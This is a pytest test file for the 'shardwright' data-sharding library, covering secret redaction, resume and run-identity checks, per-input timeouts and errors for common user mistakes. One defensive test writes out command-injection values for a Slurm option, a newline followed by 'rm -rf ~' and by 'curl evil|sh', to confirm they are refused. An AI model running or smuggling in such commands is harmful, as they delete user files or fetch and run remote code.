"""Issue 8: secrets, run identity, per-input timeouts and new-user mistakes. Real worker
processes, real files, the real S3 server; each mistake is one clear error raised before
anything is written."""

from __future__ import annotations

import json
import logging
import multiprocessing
import os
import subprocess
import sys
import time
import traceback
from collections import deque
from pathlib import Path

import pytest

from shardwright import (
    ArgumentTypeError,
    DatasetExistsError,
    FnError,
    InputsError,
    OutputDirError,
    RunMismatchError,
    StorageError,
    StreamingDataset,
    UsageError,
    optimize,
)
from shardwright.cli.main import main
from shardwright.cluster.slurm import merge_command, write_sbatch_script
from support.helpers import child_env

SECRET_ENV = "MY_SERVICE_TOKEN"
SECRET = "tok-5b1f0e9a7c3d"


def square(i):
    return {"i": i, "sq": i * i}


def square_fails_at_7(i):
    if i % 100 == 7:
        raise ValueError(f"planned failure at {i}")
    return square(i)


def leaks_the_token(i):
    if i == 3:
        raise PermissionError(f"the service refused token {os.environ[SECRET_ENV]}")
    return square(i)


def forgot_return(i):
    {"i": i}  # noqa: B018 - the mistake under test


def fixed_return(i):
    return {"i": i}


fixed_return.__qualname__ = fixed_return.__name__ = "forgot_return"  # the same fn, its body fixed


def stuck_at_3(i):
    if i == 3:
        time.sleep(3600)
    return square(i)


def uses_a_pool(i):
    with multiprocessing.Pool(2) as pool:
        return {"i": sum(pool.map(abs, [i, -i]))}


def huge_message(i):
    raise ValueError("x" * 3_000_000)


def reads_file(path):
    if Path(path).name == "f7.txt":
        raise ValueError("planned failure at f7")
    return {"text": Path(path).read_text()}


def items(out, key="i") -> list:
    return [row[key] for row in StreamingDataset(str(out))]


def full_text(exc: BaseException) -> str:
    return "".join(traceback.format_exception(exc))


# --- secrets -------------------------------------------------------------------------------------


def test_secret_in_endpoint_url_is_in_no_message_nor_chained_traceback(s3_server, s3_url):
    options = dict(s3_server.storage_options, endpoint_url="http://KEYID:SUPERSECRETPW@127.0.0.1:9")
    with pytest.raises(StorageError) as info:
        optimize(square, [1, 2], s3_url, storage_options=options, verbose=False, num_workers=1)
    text = full_text(info.value)
    assert "SUPERSECRETPW" not in text and s3_server.secret_key not in text
    assert "127.0.0.1:9" in text  # still says what failed


def test_secrets_are_in_no_state_file_nor_status(s3_server, s3_url, s3_storage_options, capsys, monkeypatch):
    monkeypatch.setenv(SECRET_ENV, SECRET)
    optimize(
        leaks_the_token,
        list(range(8)),
        s3_url,
        storage_options=s3_storage_options,
        verbose=False,
        num_workers=2,
        on_error="skip",
    )
    client = s3_server.client()
    bucket, prefix = s3_url[len("s3://") :].split("/", 1)
    keys = [o["Key"] for o in client.list_objects_v2(Bucket=bucket, Prefix=prefix)["Contents"]]
    assert any("/failed/" in k for k in keys), "the failure record is what could leak"
    for key in keys:
        body = client.get_object(Bucket=bucket, Key=key)["Body"].read()
        for secret in (s3_server.secret_key, SECRET):
            assert secret.encode() not in body, f"{secret} stored in {key}"
    assert main(["status", s3_url, "--json", "--storage-options", json.dumps(s3_storage_options)]) == 0
    out = capsys.readouterr()
    assert s3_server.secret_key not in out.out + out.err and SECRET not in out.out + out.err


def test_secret_from_the_environment_is_not_in_fn_error(tmp_path, monkeypatch):
    monkeypatch.setenv(SECRET_ENV, SECRET)
    with pytest.raises(FnError) as info:
        optimize(leaks_the_token, list(range(8)), tmp_path / "out", verbose=False, num_workers=2)
    assert SECRET not in full_text(info.value) and "input 3" in str(info.value)


def test_merge_job_command_carries_no_credentials():
    options = json.dumps(
        {
            "endpoint_url": "http://AK:SK-very-secret@minio:9000",
            "aws_access_key_id": "AKIA1234",
            "aws_secret_access_key": "SK-very-secret",
            "region_name": "eu-west-1",
        }
    )
    command = " ".join(merge_command("s3://b/p", options))
    assert "SK-very-secret" not in command and "AKIA1234" not in command and "AK:" not in command
    assert "http://minio:9000" in command and "eu-west-1" in command


def test_extra_sbatch_line_break_is_refused(capsys):
    with pytest.raises(UsageError, match="line break"):
        write_sbatch_script(["python", "prep.py"], 2, extra_sbatch="--comment='x\nrm -rf ~'")
    assert main(["slurm", "--array", "2", "--extra-sbatch", "--comment='x\ncurl evil|sh'", "--", "python", "p.py"]) == 2
    assert "curl" not in capsys.readouterr().out


# --- run identity --------------------------------------------------------------------------------


def test_fixed_fn_finishes_the_run_and_its_rerun_is_a_no_op(tmp_path):
    out = tmp_path / "out"
    with pytest.raises(FnError):
        optimize(square_fails_at_7, list(range(20)), out, chunk_size=2, num_workers=2, num_shards=2, verbose=False)
    optimize(square, list(range(20)), out, chunk_size=2, num_workers=2, num_shards=2, verbose=False)
    again = optimize(square, list(range(20)), out, chunk_size=2, num_workers=2, num_shards=2, verbose=False)
    assert again.items == 0 and again.published
    assert items(out) == list(range(20))


def test_repeating_a_fixed_append_adds_nothing(tmp_path):
    out = tmp_path / "out"
    optimize(square, list(range(5)), out, chunk_size=2, num_workers=1, verbose=False)
    with pytest.raises(FnError):
        optimize(
            square_fails_at_7,
            list(range(100, 110)),
            out,
            chunk_size=2,
            num_workers=2,
            num_shards=2,
            mode="append",
            verbose=False,
        )
    for _ in range(2):
        optimize(
            square, list(range(100, 110)), out, chunk_size=2, num_workers=2, num_shards=2, mode="append", verbose=False
        )
    assert items(out) == list(range(5)) + list(range(100, 110))


def test_changed_fn_body_over_a_finished_dataset_is_an_error(tmp_path, caplog):
    out = tmp_path / "out"
    with caplog.at_level(logging.WARNING, logger="shardwright"):
        optimize(forgot_return, list(range(6)), out, num_workers=1, verbose=False)
    assert "forget `return`" in caplog.text and "0 items" in caplog.text
    with pytest.raises(DatasetExistsError) as info:
        optimize(fixed_return, list(range(6)), out, num_workers=1, verbose=False)
    assert "forgot_return" in str(info.value) and "mode='overwrite'" in str(info.value)
    optimize(fixed_return, list(range(6)), out, num_workers=1, verbose=False, mode="overwrite")
    assert items(out) == list(range(6))


def test_lambdas_are_told_apart(tmp_path):
    out = tmp_path / "out"
    optimize(lambda i: None, list(range(4)), out, num_workers=1, verbose=False)
    with pytest.raises(DatasetExistsError):
        optimize(lambda i: {"i": i}, list(range(4)), out, num_workers=1, verbose=False)


def test_set_inputs_fingerprint_the_same_in_every_process():
    code = (
        "from shardwright.protocol.fingerprint import InputsFingerprint as F;"
        "print(F.of([{'alpha','beta','gamma','delta','eps'}, frozenset({'x','y','z'}), {'k': {'a','b'}}])"
        ".block_hashes)"
    )
    hashes = {
        subprocess.run(
            [sys.executable, "-c", code],
            env=child_env(PYTHONHASHSEED=str(seed)),
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        for seed in range(4)
    }
    assert len(hashes) == 1


def test_changed_input_file_is_refused_on_resume(tmp_path):
    files = []
    for k in range(10):
        path = tmp_path / f"f{k}.txt"
        path.write_text(f"content {k}")
        files.append(str(path))
    out = tmp_path / "out"
    with pytest.raises(FnError):
        optimize(reads_file, files, out, chunk_size=1, num_workers=1, num_shards=1, verbose=False)
    time.sleep(0.01)
    Path(files[2]).write_text("edited after the crash")
    with pytest.raises(RunMismatchError) as info:
        optimize(reads_file, files, out, chunk_size=1, num_workers=1, num_shards=1, verbose=False)
    assert "input 2" in str(info.value) and files[2] in str(info.value)


# --- per-input timeout ---------------------------------------------------------------------------


def test_timeout_turns_a_stuck_fn_into_a_failure_of_that_input(tmp_path):
    # The stuck input sleeps an hour: the call ends only by the timeout, which the error names
    # (pytest's --timeout only stops a run that ignored it and hangs; no bound on how long).
    with pytest.raises(FnError) as info:
        optimize(stuck_at_3, list(range(8)), tmp_path / "a", num_workers=2, verbose=False, timeout=1)
    assert info.value.input_index == 3 and "timeout=1" in str(info.value)
    result = optimize(
        stuck_at_3, list(range(8)), tmp_path / "b", num_workers=2, verbose=False, timeout=1, on_error="skip"
    )
    assert result.failed == 1 and items(tmp_path / "b") == [0, 1, 2, 4, 5, 6, 7]


# --- new-user mistakes: one clear error, nothing created -----------------------------------------


@pytest.mark.parametrize(
    "kwargs,error",
    [
        ({"num_workers": "4"}, ArgumentTypeError),
        ({"num_workers": 2.5}, ArgumentTypeError),
        ({"num_workers": -1}, UsageError),
        ({"start_method": "thread"}, UsageError),
        ({"chunk_size": True}, ArgumentTypeError),
        ({"use_checkpoint": "no"}, ArgumentTypeError),
        ({"timeout": "10"}, ArgumentTypeError),
        ({"timeout": 0}, UsageError),
        ({"storage_options": {"key": "a", "secret": "b"}}, UsageError),
        ({"storage_options": {"client_kwargs": {"endpoint_url": "http://x"}}}, UsageError),
    ],
)
def test_bad_arguments_are_refused_before_anything_is_written(tmp_path, kwargs, error):
    out = tmp_path / "out"
    with pytest.raises(error) as info:
        optimize(square, [1, 2], out, verbose=False, **kwargs)
    assert "\n" not in str(info.value)
    assert not out.exists()


def test_fsspec_names_say_the_boto3_names(tmp_path):
    with pytest.raises(UsageError) as info:
        optimize(square, [1], "s3://b/p", storage_options={"key": "a", "secret": "b"}, verbose=False)
    assert "aws_access_key_id" in str(info.value) and "aws_secret_access_key" in str(info.value)


def test_deque_inputs(tmp_path):
    with pytest.raises(InputsError, match=r"list\(inputs\)"):
        optimize(square, deque(range(5)), tmp_path / "out", verbose=False)
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("output_dir", ["", "   ", "s3:/bucket/data", "s3:bucket/data", "S3://bucket/x"])
def test_empty_or_mistyped_output_dir(tmp_path, monkeypatch, output_dir):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(OutputDirError) as info:
        optimize(square, [1, 2], output_dir, verbose=False, num_workers=1)
    assert list(tmp_path.iterdir()) == [], "a local folder was created"
    if output_dir.lower().startswith("s3"):
        assert "s3://bucket" in str(info.value)


def test_reader_expands_home_like_optimize(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    optimize(square, [1, 2, 3], "~/ds", num_workers=1, verbose=False)
    assert (tmp_path / "ds" / "index.json").exists()
    assert items("~/ds") == [1, 2, 3]


def test_pool_inside_fn_says_why_and_what_to_do(tmp_path):
    with pytest.raises(FnError) as info:
        optimize(uses_a_pool, [1, 2], tmp_path / "out", num_workers=1, verbose=False)
    assert "daemonic" in str(info.value) and "num_workers" in str(info.value)


def test_fn_error_of_a_huge_message_is_bounded(tmp_path):
    with pytest.raises(FnError) as info:
        optimize(huge_message, [1], tmp_path / "out", num_workers=1, verbose=False)
    assert len(str(info.value)) < 40_000 and len(full_text(info.value)) < 100_000


def test_unguarded_main_under_spawn_names_the_guard(tmp_path):
    script = tmp_path / "prep.py"
    out = tmp_path / "out"
    script.write_text(
        "from shardwright import optimize\n\n"
        "def fn(i):\n    return {'i': i}\n\n"
        f"optimize(fn, list(range(4)), {str(out)!r}, start_method='spawn', num_workers=2, verbose=False)\n"
    )
    done = subprocess.run(
        [sys.executable, str(script)], env=child_env(), capture_output=True, text=True, timeout=120, cwd=tmp_path
    )
    assert done.returncode != 0
    assert 'if __name__ == "__main__":' in done.stderr.strip().splitlines()[-1]
    assert not out.exists()


def test_leftover_num_nodes_variable_is_named(tmp_path, monkeypatch, caplog):
    monkeypatch.setenv("DATA_OPTIMIZER_NUM_NODES", "2")
    monkeypatch.setenv("DATA_OPTIMIZER_NODE_RANK", "0")
    with caplog.at_level(logging.WARNING, logger="shardwright"):
        result = optimize(square, list(range(8)), tmp_path / "out", num_workers=1, verbose=False)
    assert not result.published
    assert "DATA_OPTIMIZER_NUM_NODES=2" in caplog.text and "unset" in caplog.text
